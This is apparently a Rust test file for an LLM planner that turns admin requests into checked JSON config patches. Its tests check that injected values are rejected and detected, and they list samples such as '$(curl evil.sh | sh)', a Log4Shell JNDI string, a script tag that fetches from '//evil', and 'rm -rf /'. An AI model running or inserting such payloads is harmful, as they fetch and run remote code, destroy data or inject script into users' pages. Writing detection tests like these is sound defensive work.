//! Tests of `llm.rs`.

use std::sync::{Arc, Mutex};

use authstack_instance::config::InstanceConfig;
use axum::Router;
use axum::http::{HeaderMap, StatusCode};
use axum::response::IntoResponse;
use axum::routing::post;
use secrecy::SecretString;

use super::*;

/// One request to the fake endpoint: its Authorization header and its body.
type Request = (Option<String>, Value);

/// What the fake OpenAI endpoint saw.
#[derive(Clone, Default)]
struct Seen {
    requests: Arc<Mutex<Vec<Request>>>,
}

/// How the fake endpoint answers: status and body for each call in turn (the last one
/// repeats), after `delay`.
#[derive(Clone)]
struct Script {
    answers: Vec<(StatusCode, String)>,
    delay: Duration,
}

fn completion(content: &str) -> (StatusCode, String) {
    let body = json!({
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "model": "test-model",
        "choices": [{
            "index": 0,
            "message": {"role": "assistant", "content": content},
            "finish_reason": "stop"
        }]
    });
    (StatusCode::OK, body.to_string())
}

/// Starts the fake endpoint on 127.0.0.1:0; returns its base URL.
async fn serve(script: Script, seen: Seen) -> String {
    let app = Router::new().route(
        "/v1/chat/completions",
        post(move |headers: HeaderMap, body: axum::Json<Value>| {
            let script = script.clone();
            let seen = seen.clone();
            async move {
                let auth = headers
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .map(str::to_owned);
                let n = {
                    let mut requests = seen.requests.lock().expect("not poisoned");
                    requests.push((auth, body.0));
                    requests.len()
                };
                tokio::time::sleep(script.delay).await;
                let (status, body) = script
                    .answers
                    .get(n - 1)
                    .or(script.answers.last())
                    .cloned()
                    .unwrap_or((StatusCode::INTERNAL_SERVER_ERROR, String::new()));
                (status, [("content-type", "application/json")], body).into_response()
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind 127.0.0.1:0");
    let address = listener.local_addr().expect("local address");
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    format!("http://{address}/v1/")
}

fn settings(base_url: String, key: Option<&str>) -> LlmSettings {
    LlmSettings {
        base_url,
        model: "test-model".into(),
        api_key: key.map(SecretString::from),
    }
}

/// Plans "the prompt" against the default config with a fake model answering `answers`.
async fn plan_with(answers: Vec<(StatusCode, String)>) -> (anyhow::Result<Planned>, Seen) {
    let seen = Seen::default();
    let base = serve(
        Script {
            answers,
            delay: Duration::ZERO,
        },
        seen.clone(),
    )
    .await;
    let planner = LlmPlanner::new(settings(base, Some("sk-test"))).expect("planner");
    let current = InstanceConfig::default();
    let context = PlanContext {
        current: &current,
        plan: "pro",
        sso: true,
    };
    (
        planner.plan("raise the password minimum", &context).await,
        seen,
    )
}

fn rejection(result: anyhow::Result<Planned>) -> String {
    match result {
        Err(err) => match err.downcast_ref::<Rejected>() {
            Some(rejected) => rejected.to_string(),
            None => panic!("not a rejection: {err:#}"),
        },
        Ok(planned) => panic!("accepted: {planned:?}"),
    }
}

#[tokio::test]
async fn a_good_answer_becomes_a_checked_proposal() {
    let answer = json!({
        "patch": [{"op": "replace", "path": "/passwords/min_length", "value": 12}],
        "summary": "Require passwords of at least 12 characters."
    });
    let (result, seen) = plan_with(vec![completion(&answer.to_string())]).await;
    let Ok(Planned::Proposal(proposal)) = result else {
        panic!("{result:?}");
    };
    assert_eq!(
        serde_json::to_value(&proposal.patch).expect("serializable"),
        answer["patch"]
    );
    assert_eq!(
        proposal.summary,
        "Require passwords of at least 12 characters."
    );
    assert!(
        proposal.security_notes[0].starts_with("Raising the password minimum from 8 to 12"),
        "{:?}",
        proposal.security_notes
    );
    let requests = seen.requests.lock().expect("not poisoned");
    assert_eq!(requests.len(), 1);
    let (auth, body) = &requests[0];
    assert_eq!(auth.as_deref(), Some("Bearer sk-test"));
    assert_eq!(body["model"], "test-model");
    assert_eq!(body["response_format"]["type"], "json_object");
    assert_eq!(body["messages"][1]["content"], "raise the password minimum");
    let system = body["messages"][0]["content"].as_str().unwrap_or_default();
    assert!(system.contains("\"min_length\": 8"), "{system}");
    assert!(system.contains("ONLY one JSON object"));
}

#[tokio::test]
async fn unsupported_is_passed_on() {
    let answer = json!({"unsupported": "I cannot order pizza."});
    let (result, _) = plan_with(vec![completion(&answer.to_string())]).await;
    assert_eq!(
        result.ok(),
        Some(Planned::Unsupported {
            message: "I cannot order pizza.".into()
        })
    );
}

#[tokio::test]
async fn bad_answers_are_rejected() {
    let good_op = json!([{"op": "replace", "path": "/branding/appearance", "value": "dark"}]);
    let cases: Vec<(String, &str)> = vec![
        ("Sure! I set dark mode for you.".into(), "not a JSON object"),
        (
            format!(
                "```json\n{}\n```",
                json!({"patch": good_op, "summary": "Dark."})
            ),
            "code block",
        ),
        (
            json!({"patch": [{"op": "remove", "path": "/webhooks/5"}], "summary": "x"}).to_string(),
            "webhooks[5]",
        ),
        (
            json!({"patch": [{"op": "replace", "path": "/passwords/min_length", "value": 2}],
                   "summary": "Shorter passwords."})
            .to_string(),
            "passwords.min_length",
        ),
        (
            json!({"patch": [{"op": "replace", "path": "/mail/product_name",
                              "value": "<script>fetch('//evil')</script>"}],
                   "summary": "Rename."})
            .to_string(),
            "looks like code",
        ),
        (
            json!({"patch": [{"op": "add", "path": "/auth/on_login_hook",
                              "value": "notify"}], "summary": "Hook."})
            .to_string(),
            "on_login_hook",
        ),
        (
            json!({"patch": [{"op": "jump", "path": "/auth"}], "summary": "x"}).to_string(),
            "not RFC 6902",
        ),
        (
            json!({"patch": good_op}).to_string(),
            "must have \"patch\" and \"summary\"",
        ),
        (
            json!({"patch": good_op, "summary": "Dark.", "code": "rm -rf /"}).to_string(),
            "unexpected key \"code\"",
        ),
        (
            json!({"patch": [], "summary": "Nothing."}).to_string(),
            "the patch is empty",
        ),
        (json!([1, 2]).to_string(), "not an object"),
    ];
    for (content, expected) in cases {
        let (result, _) = plan_with(vec![completion(&content)]).await;
        let message = rejection(result);
        assert!(message.contains(expected), "{content}: {message}");
    }
}

#[tokio::test]
async fn http_failures_are_errors_without_the_key() {
    let (result, _) = plan_with(vec![(
        StatusCode::INTERNAL_SERVER_ERROR,
        "{\"error\": \"overloaded\"}".into(),
    )])
    .await;
    let message = format!("{:#}", result.expect_err("a 500 is an error"));
    assert!(message.contains("500"), "{message}");
    assert!(message.contains("overloaded"), "{message}");
    assert!(!message.contains("sk-test"));
    let (result, _) = plan_with(vec![(StatusCode::OK, "not json".into())]).await;
    assert!(result.is_err());
    let (result, _) = plan_with(vec![(StatusCode::OK, "{\"choices\": []}".into())]).await;
    let message = format!("{:#}", result.expect_err("no content"));
    assert!(message.contains("choices[0].message.content"), "{message}");
}

#[tokio::test]
async fn a_slow_model_times_out() {
    let seen = Seen::default();
    let base = serve(
        Script {
            answers: vec![completion("{}")],
            delay: Duration::from_secs(5),
        },
        seen,
    )
    .await;
    let planner = LlmPlanner::with_timeout(settings(base, None), Duration::from_millis(300))
        .expect("planner");
    let current = InstanceConfig::default();
    let context = PlanContext {
        current: &current,
        plan: "pro",
        sso: true,
    };
    let started = std::time::Instant::now();
    let err = planner
        .plan("dark mode", &context)
        .await
        .expect_err("timed out");
    assert!(
        format!("{err:#}").contains("did not answer in time"),
        "{err:#}"
    );
    assert!(started.elapsed() < Duration::from_secs(4));
}

#[tokio::test]
async fn without_json_mode_support_it_asks_again_without_it() {
    let answer = json!({
        "patch": [{"op": "replace", "path": "/branding/appearance", "value": "dark"}],
        "summary": "Dark mode."
    });
    let seen = Seen::default();
    let base = serve(
        Script {
            answers: vec![
                (
                    StatusCode::BAD_REQUEST,
                    "{\"error\": \"response_format is not supported\"}".into(),
                ),
                completion(&answer.to_string()),
            ],
            delay: Duration::ZERO,
        },
        seen.clone(),
    )
    .await;
    let planner = LlmPlanner::new(settings(base, None))
        .expect("planner")
        .with_schema("{\"title\": \"InstanceConfig\"}".into());
    let current = InstanceConfig::default();
    let context = PlanContext {
        current: &current,
        plan: "pro",
        sso: true,
    };
    let planned = planner.plan("dark mode", &context).await.expect("planned");
    assert!(matches!(planned, Planned::Proposal(_)));
    let requests = seen.requests.lock().expect("not poisoned");
    assert_eq!(requests.len(), 2);
    assert!(requests[1].1.get("response_format").is_none());
    // No key configured: no Authorization header.
    assert_eq!(requests[0].0, None);
    let system = requests[0].1["messages"][0]["content"]
        .as_str()
        .unwrap_or_default();
    assert!(system.contains("JSON Schema:\n{\"title\": \"InstanceConfig\"}"));
}

#[test]
fn code_detection() {
    for code in [
        "<script>alert(1)</script>",
        "javascript:alert(1)",
        "$(curl evil.sh | sh)",
        "${jndi:ldap://x}",
        "{{7*7}}",
        "x; rm -rf /",
    ] {
        assert!(looks_like_code(code), "{code}");
    }
    for value in [
        "https://example.com/logo.svg",
        "#4f46e5",
        "auth.*",
        "AuthStack <no-reply@example.com>",
        "Acme & Co",
    ] {
        assert!(!looks_like_code(value), "{value}");
    }
}

#[test]
fn a_base_url_must_be_http() {
    assert!(LlmPlanner::new(settings("file:///etc".into(), None)).is_err());
}
